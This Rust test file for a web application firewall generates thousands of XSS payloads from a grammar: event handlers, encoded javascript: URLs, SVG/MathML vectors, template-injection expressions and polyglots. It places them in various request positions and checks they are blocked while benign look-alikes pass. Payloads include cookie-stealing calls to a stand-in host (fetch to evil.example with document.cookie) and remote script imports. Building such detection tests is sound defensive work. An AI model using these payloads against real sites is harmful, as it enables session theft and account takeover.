//! XSS built from its grammar: vectors (event handlers on any tag, attribute
//! breakouts, script URLs under every encoding, SVG/MathML and active
//! elements, template expressions, JavaScript string breakouts, polyglots
//! pieced together) × separators × quoting × encodings × placements (query
//! argument, form body, JSON body, cookie, double percent-encoding). Each
//! sub-family must be blocked at ≥ 95 %; benign look-alikes (prose with "on"
//! words and `=`, URLs with `javascript` in a path, markdown, code
//! snippets) must all pass.
//!
//! The combinations are walked by strides rather than in full, so every
//! value of every dimension appears while the case count stays in the low
//! thousands; the walk is deterministic.

mod common;

use common::pct;
use wafer_engine::{Action, Class, Engine, Request};

// ---- placements -------------------------------------------------------------

fn json_str(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            '<' => o.push_str("\\u003c"),
            '>' => o.push_str("\\u003e"),
            c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

const PLACEMENTS: usize = 7;

fn request(value: &str, placement: usize) -> Request {
    let base = |r: Request| {
        r.header("Host", "shop.example")
            .header(
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
            )
            .header("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
    };
    let post = |ct: &str, body: String| {
        base(Request::new("POST", "/comment"))
            .header("Content-Type", ct)
            .header("Content-Length", &body.len().to_string())
            .body(body.into_bytes())
    };
    match placement {
        0 => base(Request::new("GET", &format!("/search?q={}", pct(value)))),
        1 => post(
            "application/x-www-form-urlencoded",
            format!("name=ada&comment={}", pct(value)),
        ),
        2 => post(
            "application/json",
            format!("{{\"name\":\"ada\",\"comment\":{}}}", json_str(value)),
        ),
        3 => {
            base(Request::new("GET", "/account")).header("Cookie", &format!("pref={}", pct(value)))
        }
        4 => base(Request::new("GET", &format!("/page/{}", pct(value)))),
        5 => post("text/plain", value.to_owned()),
        _ => base(Request::new(
            "GET",
            &format!("/search?q={}", pct(&pct(value))),
        )),
    }
}

// ---- the grammar --------------------------------------------------------------

const BODIES: &[&str] = &[
    "alert(1)",
    "alert`1`",
    "prompt(document.domain)",
    "confirm(1)",
    "top['al'+'ert'](1)",
    "import('//evil.example/x.js')",
    "fetch('//evil.example/?'+document.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
    "(alert)(1)",
    "window.onerror=alert;throw 1",
    "self[`alert`](1)",
    "location='//evil.example'",
];

const TAGS: &[&str] = &[
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "x",
    "custom-element",
    "a href=#",
    "div",
    "marquee",
    "iframe",
    "math",
    "select autofocus",
    "form",
    "xss",
    "style",
    "iMg SrC=x",
    "object data=x",
    "textarea autofocus",
    "keygen autofocus",
    "frameset",
    "p tabindex=1",
];

const HANDLERS: &[&str] = &[
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onauxclick",
    "onbeforeinput",
    "onfoo",
    "OnErRoR",
    "onmouseenter",
    "onwheel",
    "oncontentvisibilityautostatechange",
    "onscrollend",
    "onpageshow",
    "onfocusin",
    "onbeforetoggle",
    "onxyz",
    "ontransitionend",
];

/// Between a tag name (or previous attribute) and the handler.
const SEPS: &[&str] = &[" ", "/", "\t", "\n", "\x0c", "//", " /", "\r\n", "  "];

/// How the handler's value is quoted.
const QUOTES: &[(&str, &str)] = &[("", ""), ("\"", "\""), ("'", "'"), ("`", "`")];

/// What comes before markup: the reflection contexts it breaks out of.
const PREFIXES: &[&str] = &[
    "",
    "\">",
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    "</script>",
    "x</style>",
    "\"/>",
];

/// Picks the `k`-th dimension's entry for case `i`, walking dimensions at
/// co-prime strides so that their combinations vary.
fn pick<T: Copy>(xs: &[T], i: usize, k: usize) -> T {
    const STRIDES: [usize; 8] = [1, 7, 13, 17, 19, 23, 29, 31];
    xs[(i * STRIDES[k % 8] + i / xs.len()) % xs.len()]
}

fn case_mix(s: &str, i: usize) -> String {
    // Every third case alternates letter case, as filter evasions do.
    if !i.is_multiple_of(3) {
        return s.to_owned();
    }
    s.chars()
        .enumerate()
        .map(|(k, c)| {
            if k % 2 == 0 {
                c.to_ascii_uppercase()
            } else {
                c
            }
        })
        .collect()
}

fn event_handlers(n: usize) -> Vec<String> {
    (0..n)
        .map(|i| {
            let tag = pick(TAGS, i, 0);
            let (q1, q2) = pick(QUOTES, i, 1);
            let close = if i % 2 == 0 { ">" } else { "" };
            format!(
                "{}<{}{}{}={q1}{}{q2}{close}",
                pick(PREFIXES, i, 2),
                tag,
                pick(SEPS, i, 3),
                pick(HANDLERS, i, 4),
                pick(BODIES, i, 5)
            )
        })
        .collect()
}

fn attr_breakouts(n: usize) -> Vec<String> {
    const OPEN: &[&str] = &["\"", "'", "x\"", "x'", "\"/", "'/", "`"];
    const FILLER: &[&str] = &[
        "",
        "autofocus ",
        "x=y ",
        "tabindex=1 ",
        "style=display:block ",
    ];
    const SUFFIX: &[&str] = &["", " x=\"", " '", "//", " a='", " \"", " x"];
    const KNOWN: &[&str] = &[
        "onfocus",
        "onmouseover",
        "onclick",
        "onpointerover",
        "onanimationstart",
        "onfocusin",
        "onmousemove",
        "oNmOuSeOvEr",
        "onbeforecopy",
        "onpaste",
        "onxss",
    ];
    (0..n)
        .map(|i| {
            let open = pick(OPEN, i, 0);
            let sep = if open.ends_with('/') {
                ""
            } else {
                pick(SEPS, i, 1)
            };
            let (q1, q2) = pick(QUOTES, i, 2);
            format!(
                "{open}{sep}{}{}={q1}{}{q2}{}",
                pick(FILLER, i, 3),
                pick(KNOWN, i, 4),
                pick(BODIES, i, 5),
                pick(SUFFIX, i, 6)
            )
        })
        .collect()
}

/// One character of a scheme written as an HTML character reference.
fn entity(c: char, style: usize) -> String {
    let n = c as u32;
    match style {
        0 => format!("&#{n};"),
        1 => format!("&#{n}"),
        2 => format!("&#0000{n};"),
        3 => format!("&#x{n:x};"),
        4 => format!("&#X{n:X}"),
        5 => format!("&#x00{n:x};"),
        _ => format!("&#000{n}"),
    }
}

/// A scheme (`javascript:`) under one encoding.
fn encode_scheme(scheme: &str, enc: usize, i: usize) -> String {
    let name = scheme.trim_end_matches(':');
    match enc {
        0 => scheme.to_owned(),
        1..=7 => scheme
            .chars()
            .map(|c| entity(c, (enc - 1 + i) % 7))
            .collect(),
        // Only some characters encoded.
        // Only some characters encoded; a reference without `;` before a
        // letter is written in decimal (hex would swallow `a`-`f`).
        8 => {
            name.chars()
                .enumerate()
                .map(|(k, c)| {
                    if k % 3 == 1 {
                        entity(c, [0, 1, 2, 3, 5, 6][i % 6])
                    } else {
                        c.to_string()
                    }
                })
                .collect::<String>()
                + "&colon;"
        }
        9 => format!("{}\t{}:", &name[..2], &name[2..]),
        10 => format!("{}&Tab;{}&colon;", &name[..4], &name[4..]),
        11 => format!("{}&NewLine;{}:", &name[..3], &name[3..]),
        12 => format!("\x01 {}:", case_mix(name, 0)),
        13 => format!("&#x20;{name}&#58;"),
        14 => format!("{}\n{}\r{}:", &name[..1], &name[1..2], &name[2..]),
        15 => case_mix(scheme, 0),
        16 => format!("{name}&#58"),
        _ => format!("&#{};{}:", name.as_bytes()[0], &name[1..]),
    }
}

fn script_urls(n: usize) -> Vec<String> {
    const SCHEMES: &[&str] = &["javascript:", "javascript:", "vbscript:", "data:"];
    const PLACES: &[&str] = &[
        "<a href=\"{}\">x</a>",
        "<iframe src={}>",
        "<form action='{}'><input type=submit>",
        "<form><button formaction={}>go</button></form>",
        "<svg><a xlink:href=\"{}\"><text x=1 y=1>x</text></a></svg>",
        "<math><maction actiontype=statusline xlink:href=\"{}\">x</maction></math>",
        "<object data=\"{}\">",
        "<embed src={}>",
        "<a href={}>x",
        "\"><a href=\"{}\">x</a>",
        "{}",
        "<isindex action={} type=submit>",
        "<svg><a href='{}'><circle r=40></circle></a></svg>",
        "<math href=\"{}\">x</math>",
        "<iframe srcdoc=\"&lt;a href=&quot;{}&quot;&gt;x\">",
    ];
    (0..n)
        .map(|i| {
            let scheme = pick(SCHEMES, i, 0);
            let enc = pick(&(0..18).collect::<Vec<_>>(), i, 1);
            let code = match scheme {
                "vbscript:" => "msgbox(1)".to_owned(),
                "data:" => {
                    if i % 2 == 0 {
                        "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==".to_owned()
                    } else {
                        "text/html,<script>alert(1)</script>".to_owned()
                    }
                }
                _ => pick(BODIES, i, 2).to_owned(),
            };
            let url = format!("{}{code}", encode_scheme(scheme, enc, i));
            let place = pick(PLACES, i, 3);
            if place == "<iframe srcdoc=\"&lt;a href=&quot;{}&quot;&gt;x\">" {
                // Inside srcdoc the reference is decoded once more: keep it plain.
                return place.replace("{}", &format!("{scheme}{code}").replace('"', "&quot;"));
            }
            place.replace("{}", &url)
        })
        .collect()
}

fn svg_mathml(n: usize) -> Vec<String> {
    const VECTORS: &[&str] = &[
        "<svg><script>B</script>",
        "<svg><script href=data:,B />",
        "<svg onload=B>",
        "<svg><animate onbegin=B attributeName=x dur=1s>",
        "<svg><animate attributeName=href values=javascript:B /><a id=x><text x=20 y=20>X</text></a>",
        "<svg><a><animate attributeName=href to=javascript:B /><text x=20 y=20>X</text></a>",
        "<svg><set attributeName=href to=javascript:B />",
        "<svg><set attributeName=onmouseover to=B />",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x\" />",
        "<svg><use xlink:href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='B' /></svg>#x\">",
        "<math><mtext><img src=x onerror=B>",
        "<math><mi xlink:href=\"javascript:B\">x</mi></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:B>click</maction>",
        "<iframe srcdoc=\"&lt;script&gt;B&lt;/script&gt;\">",
        "<iframe srcdoc='<img src=x onerror=B>'>",
        "<object data=\"javascript:B\">",
        "<embed src=\"javascript:B\">",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:B\">",
        "<meta http-equiv=refresh content='0; URL=data:text/html,<script>B</script>'>",
        "<link rel=import href=\"//evil.example/x.html\">",
        "<svg><foreignObject><iframe src=javascript:B></iframe></foreignObject></svg>",
        "<svg><discard onbegin=B />",
        "<svg><image href=x onerror=B />",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">B</x:script>",
        "<svg><style>@import '//evil.example/x.css';</style>",
        "<math><style><img src=x onerror=B></style></math>",
        "<svg><title><img src=x onerror=B></title></svg>",
        "<svg><desc><![CDATA[</desc><script>B</script>]]></svg>",
        "<svg><feImage href=javascript:B />",
        "<noscript><p title=\"</noscript><img src=x onerror=B>\">",
        "<svg><animateTransform onend=B dur=1s />",
    ];
    (0..n)
        .map(|i| {
            let v = pick(VECTORS, i, 0).replace('B', pick(BODIES, i, 1));
            let v = if i % 4 == 1 { v.replace(' ', "/") } else { v };
            let v = if i % 5 == 2 { v.replace(' ', "\n") } else { v };
            let v = if i % 3 == 0 { case_tags(&v) } else { v };
            format!("{}{v}", pick(PREFIXES, i, 2))
        })
        .collect()
}

/// Upper-cases tag and attribute names' first letters (`<sVg OnLoad=`).
fn case_tags(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut after_lt = false;
    for c in s.chars() {
        if after_lt && c.is_ascii_alphabetic() {
            out.push(c.to_ascii_uppercase());
        } else {
            out.push(c);
        }
        after_lt = c == '<';
    }
    out
}

fn templates(n: usize) -> Vec<String> {
    const SHAPES: &[&str] = &[
        "{{constructor.constructor('B')()}}",
        "{{$on.constructor('B')()}}",
        "{{_c.constructor('B')()}}",
        "{{_openBlock.constructor('B')()}}",
        "{{$eval.constructor('B')()}}",
        "{{[].pop.constructor('B')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };B//');}}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=B');}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;[\"a\",\"B\"].sort(toString.constructor)}}",
        "{{$root.constructor.constructor('B')()}}",
        "<div ng-app>{{constructor.constructor('B')()}}</div>",
        "<div v-html=\"''.constructor.constructor('B')()\"></div>",
        "${B}",
        "`${B}`",
        "${self['al'+'ert'](1)}",
        "{{ [].map.constructor('B')() }}",
        "{{$new.constructor('B')()}}",
        "<x ng-focus=$event.view.alert(1) autofocus tabindex=0>",
        "[[constructor.constructor('B')()]]",
        "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,B,a')}}",
    ];
    (0..n)
        .map(|i| {
            let body = pick(BODIES, i, 1).replace('\'', "\\'");
            let v = pick(SHAPES, i, 0).replace('B', &body);
            if i % 3 == 1 {
                v.replace("{{", "{{ ").replace("}}", " }}")
            } else {
                v
            }
        })
        .collect()
}

fn js_strings(n: usize) -> Vec<String> {
    const OPEN: &[&str] = &["'", "\"", "\\'", "\\\"", "`", "'}", "\"]", "');", "\")}"];
    const JOIN: &[&str] = &[";", "-", "+", "*", "||", "&&", ";\n", "};", ",", "\n"];
    const CLOSE: &[&str] = &["//", "-'", ";//", "", "-\"", "<!--", "/*", ";'"];
    let mut v: Vec<String> = (0..n)
        .map(|i| {
            format!(
                "{}{}{}{}",
                pick(OPEN, i, 0),
                pick(JOIN, i, 1),
                pick(BODIES, i, 2),
                pick(CLOSE, i, 3)
            )
        })
        .collect();
    for b in BODIES {
        v.push(format!("</script><script>{b}</script>"));
        v.push(format!("</ScRiPt><img src=x onerror={b}>"));
    }
    v
}

/// Polyglots pieced together from fragments for several contexts: a
/// script URL whose code hides behind comment soup, context closers before
/// markup, quote runs before an injected handler. Each one holds at least
/// one piece that runs in some context.
fn polyglots(n: usize) -> Vec<String> {
    const SCHEME: &[&str] = &["jaVasCript:", "JAVASCRIPT:", "javascript:", " javascript:"];
    const SOUP: &[&str] = &[
        "/*-/*`/*\\`/*'/*\"/**/",
        "/*'/*\"/*`/*--></title>*/",
        "//%0a",
        "/**/",
        "",
    ];
    const CALL: &[&str] = &[
        "(/* */oNcliCk=alert() )",
        "(alert)(1)",
        "alert()",
        "/*x*/prompt`1`",
        "(/**/confirm(1))",
    ];
    const CLOSERS: &[&str] = &[
        "'\"-->",
        "*/</script>",
        "</title></style></textarea></noscript>",
        "\"'`>",
        "--!></xmp></template>",
        "'\"></iframe>",
    ];
    const MARKUP: &[&str] = &[
        "<sVg/oNloAd=alert()//>",
        "<svg onload=alert(1)>",
        "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "<img src=x onerror=top['al'+'ert'](1)>",
        "<details open ontoggle=confirm()>",
        "<scRipt>alert(1)</scRipt>",
    ];
    const QUOTES_RUN: &[&str] = &["'\"", "\"'`", "`'\"", "\"", "'"];
    const HANDLER: &[&str] = &[
        " oNmouseover=alert(1)//",
        "/onfocus=alert(1) autofocus x=",
        " oNcliCk=alert() ",
        "\tonpointerenter=prompt(1) ",
    ];
    const TAIL: &[&str] = &["//", "", "-->", "//'", "\"'>", "/*", "\\"];
    (0..n)
        .map(|i| {
            let tail = pick(TAIL, i, 3);
            match i % 3 {
                0 => format!(
                    "{}{}{}{tail}",
                    pick(SCHEME, i, 0),
                    pick(SOUP, i, 1),
                    pick(CALL, i, 2)
                ),
                1 => format!("{}{}{tail}", pick(CLOSERS, i, 0), pick(MARKUP, i, 1)),
                _ => format!("{}{}{tail}", pick(QUOTES_RUN, i, 0), pick(HANDLER, i, 1)),
            }
        })
        .collect()
}

// ---- benign look-alikes -------------------------------------------------------------

fn benign() -> Vec<String> {
    let mut v: Vec<String> = [
        "Set online=true in the config file",
        "one=1 and two=2",
        "ontology=owl, onset=early",
        "Onboarding = done, on time",
        "the once=only flag",
        "https://example.com/javascript/tutorial",
        "https://developer.example.org/docs/javascript/reference/statements",
        "/learn/javascript:basics",
        "javascript: the good parts",
        "I love javascript",
        "Learn JavaScript: a modern tutorial",
        "[link](https://example.com/page)",
        "**bold** and _italic_ with `code`",
        "# Heading\n\n- item one\n- item two",
        "if (a < b && c > d) { return x; }",
        "x => x + 1",
        "for (let i = 0; i < n; i++) sum += i;",
        "<ada@example.com>",
        "a < b > c",
        "color: red; background: url(/img/bg.png)",
        "{\"on\": true, \"onload\": 3}",
        "SELECT your plan: monthly or yearly",
        "Price alert: save 20% on orders over $50",
        "Meet me at 10:30 on Monday",
        "He said \"don't\" and 'left'",
        "It's 5 o'clock, onion rings = yes",
        "vbscript is deprecated",
        "data: 42 items",
        "mailto:ada@example.com",
        "tel:+1-555-0100",
        "https://cdn.example.com/app.js?v=1.2.3",
        "Use {{ name }} in your template",
        "Hello {{user.firstName}}, welcome!",
        "Total: ${price} per month",
        "The constructor of the class runs first",
        "onclick handlers are covered in chapter 3",
        "set onerror in your logger config",
        "ratio 3:2 (approx)",
        "Q&A: why is x=y?",
        "C:\\Users\\ada\\Documents\\report.docx",
        "user@example.com; bob@example.com",
        "2024-05-01T10:00:00Z",
        "search: shoes size=42 colour=blue",
        "We're open on weekends & holidays",
        "see https://example.com/?q=one&on=1",
        "The <b>bold</b> word",
        "Press <Enter> to continue",
        "5 > 3 and 2 < 4",
        "onto the next one = progress",
        "ping me: on-call rota",
        "my-onclick-tracker",
        "utm_content=onboarding_email",
        "function hello() { return 'hi'; }",
        "console.log('done')",
        "Array.prototype.map is handy",
        "javascript:void(0)",
        "the alert(s) you set",
        "Location = Paris, France",
        "document.pdf",
        "style=\"modern\"",
        "title='A Tale of Two Cities'",
        "O'Reilly said \"hello\" on stage",
        "<3 you",
        "-- sent from my phone",
        "a+b=c",
        "ON CONFLICT DO NOTHING",
        "Online = yes; Onsite = no",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    for w in [
        "once", "one", "only", "onset", "ontology", "online", "onward",
    ] {
        v.push(format!("{w}=1"));
        v.push(format!("why {w} = 2?"));
    }
    v
}

// ---- the test -----------------------------------------------------------------------

fn blocked(engine: &Engine, value: &str, placement: usize) -> bool {
    engine.inspect(&request(value, placement)).action == Action::Block
}

/// Blocked with an XSS finding among the reasons (look-alikes that other
/// families' rules block are reported, not counted against this family).
fn blocked_as_xss(engine: &Engine, value: &str, placement: usize) -> Option<String> {
    let v = engine.inspect(&request(value, placement));
    if v.action != Action::Block || !v.findings.iter().any(|f| f.class == Class::Xss) {
        return None;
    }
    let why: Vec<_> = v
        .findings
        .iter()
        .map(|f| format!("{} {:?}", f.rule_id, f.matched))
        .collect();
    Some(why.join("; "))
}

#[test]
fn xss_families_are_blocked_and_look_alikes_pass() {
    let engine = Engine::builtin();
    let families: [(&str, Vec<String>); 7] = [
        ("event handlers", event_handlers(600)),
        ("attribute breakouts", attr_breakouts(400)),
        ("script URLs", script_urls(600)),
        ("svg/mathml/active elements", svg_mathml(320)),
        ("template expressions", templates(200)),
        ("js string breakouts", js_strings(300)),
        ("polyglots", polyglots(300)),
    ];
    let mut report = Vec::new();
    let mut failed = false;
    for (name, cases) in &families {
        let mut misses = Vec::new();
        for (i, c) in cases.iter().enumerate() {
            let p = i % PLACEMENTS;
            if !blocked(&engine, c, p) {
                misses.push(format!("  [{p}] {c:?}"));
            }
        }
        let rate = 100.0 * (cases.len() - misses.len()) as f64 / cases.len() as f64;
        report.push(format!("{name}: {rate:.1} % of {}", cases.len()));
        if rate < 95.0 {
            failed = true;
        }
        report.extend(misses.into_iter().take(25));
    }
    let mut fps = Vec::new();
    let look_alikes = benign();
    for v in &look_alikes {
        for p in 0..PLACEMENTS {
            if let Some(why) = blocked_as_xss(&engine, v, p) {
                fps.push(format!("  [{p}] {v:?}: {why}"));
            }
        }
    }
    report.push(format!(
        "benign look-alikes: {} of {} blocked",
        fps.len(),
        look_alikes.len() * PLACEMENTS
    ));
    report.extend(fps.iter().cloned());
    println!("{}", report.join("\n"));
    assert!(!failed && fps.is_empty(), "{}", report.join("\n"));
}
